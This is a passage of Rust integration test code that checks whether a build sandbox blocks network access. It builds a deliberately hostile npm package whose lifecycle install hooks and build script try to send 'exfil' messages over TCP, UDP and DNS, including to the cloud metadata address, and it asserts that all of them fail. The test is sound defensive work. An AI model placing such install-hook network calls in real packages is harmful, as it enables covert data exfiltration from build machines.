    udp.set_nonblocking(true).unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    let agent_port = stack.agent_port;
    let gitstore_port: u16 = stack
        .gitstore
        .base_url()
        .rsplit(':')
        .next()
        .and_then(|p| p.parse().ok())
        .expect("gitstore port");

    // Install is the phase with the network: the project's own lifecycle scripts try first
    // (installs run them with --ignore-scripts), then the build itself.
    let send = |what: &str| {
        format!(
            "node -e \"require('net').connect({tcp_port}, '127.0.0.1', function () {{ this.end('exfil {what}') }}).on('error', () => {{}})\""
        )
    };
    let package = serde_json::json!({
        "name": "hostile-network",
        "private": true,
        "scripts": {
            "preinstall": send("preinstall"),
            "install": send("install"),
            "postinstall": send("postinstall"),
            "build": "node build.js",
        },
    });
    let build = format!(
        r#"const fs = require('fs'), net = require('net'), dgram = require('dgram'), dns = require('dns')
const tcp = (host, port) => new Promise(r => {{
  const s = net.connect({{ host, port }})
  s.setTimeout(3000)
  s.on('connect', () => {{ s.end('exfil'); r(`tcp ${{host}}:${{port}} CONNECTED`) }})
  s.on('error', e => r(`tcp ${{host}}:${{port}} ${{e.code}}`))
  s.on('timeout', () => {{ s.destroy(); r(`tcp ${{host}}:${{port}} TIMEOUT`) }})
}})
const udp = port => new Promise(r => {{
  const s = dgram.createSocket('udp4')
  s.on('error', e => {{ s.close(); r(`udp 127.0.0.1:${{port}} ${{e.code}}`) }})
  s.send('exfil', port, '127.0.0.1', e => {{ try {{ s.close() }} catch {{}}; r(`udp 127.0.0.1:${{port}} ${{e ? e.code : 'SENT'}}`) }})
}})
const lookup = h => new Promise(r => dns.lookup(h, e => r(`dns ${{h}} ${{e ? e.code : 'RESOLVED'}}`)))
;(async () => {{
  const out = []
  for (const [h, p] of [['127.0.0.1', {tcp_port}], ['127.0.0.1', {agent_port}], ['127.0.0.1', {gitstore_port}], ['1.1.1.1', 443], ['169.254.169.254', 80]]) out.push(await tcp(h, p))
  out.push(await udp({udp_port}))
  out.push(await udp({agent_port}))
  out.push(await lookup('registry.npmjs.org'))
  console.log(out.join('\n'))
  fs.mkdirSync('dist', {{ recursive: true }})
  fs.writeFileSync('dist/index.html', '<!doctype html><p>network</p>')
  fs.writeFileSync('dist/got.txt', out.join('\n'))
}})()
"#
    );
    let evil = node_project(
        &tmp.path().join(&n.evil),
        &build,
        &[("package.json", &format!("{package:#}\n"))],
    );
    stack.push(&evil, &n.evil);
    let st = stack.wait_settled(&n.evil, &evil.head(), WARM);
    let log = stack.build_log(&n.evil);
    assert_eq!(st["state"], "ready", "{st:#}\n{log}");
    let got = stack.published(&n.evil, "got.txt").expect("got.txt");
    for target in [
        format!("tcp 127.0.0.1:{tcp_port}"),
        format!("tcp 127.0.0.1:{agent_port}"),
        format!("tcp 127.0.0.1:{gitstore_port}"),
        "tcp 1.1.1.1:443".to_owned(),
        "tcp 169.254.169.254:80".to_owned(),
        format!("udp 127.0.0.1:{udp_port}"),
        format!("udp 127.0.0.1:{agent_port}"),
    ] {
        assert_eq!(
            line(&got, &target),
            format!("{target} ENETUNREACH"),
            "the build has no network:\n{got}"
        );
    }
    assert!(!line(&got, "dns ").ends_with("RESOLVED"), "{got}");
    match tcp.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        Ok((_, peer)) => panic!("the host listener got a connection from {peer}\n{log}"),
        Err(e) => panic!("accept: {e}"),
    }
    let mut buf = [0u8; 64];
    match udp.recv_from(&mut buf) {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        Ok((len, peer)) => panic!(
            "the host's UDP socket got {:?} from {peer}",
            String::from_utf8_lossy(&buf[..len])
        ),
        Err(e) => panic!("recv: {e}"),
    }
    assert_still_serves_an_innocent_project(&stack, tmp.path(), &n.innocent);
}
